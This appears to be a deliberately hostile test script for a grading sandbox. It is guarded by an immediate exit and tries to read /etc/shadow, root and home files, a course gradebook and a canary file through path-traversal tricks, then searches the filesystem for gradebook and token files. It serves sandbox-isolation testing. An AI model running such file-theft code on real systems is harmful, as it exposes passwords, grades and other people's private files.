"""Files of the host.

The repository, the gradebook, the system's passwords, other students, a secret file.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
import glob
import os

victims = ["@CANARY@", "@COURSE@/class/gradebook.db", "/etc/shadow", "/etc/passwd", "/root/.bashrc"]
victims += ["/proc/1/root@CANARY@", "/proc/self/cwd/../../../@CANARY@", "/proc/kcore", "/dev/mem"]
victims += glob.glob("@COURSE@/**", recursive=True) + glob.glob("/home/**") + glob.glob("/root/**")
for victim in victims:
    try:
        with open(victim, "rb") as file:
            print("loot:", victim, file.read(200))
    except OSError:
        pass
for folder, folders, files in os.walk("/"):
    folders[:] = [
        one for one in folders if one not in ("proc", "sys", "usr", "lib", "lib64", "dev")
    ]
    for name in files:
        if "gradebook" in name or "@TOKEN@" in name or name.startswith("01-hostile"):
            print("loot:", folder, name)
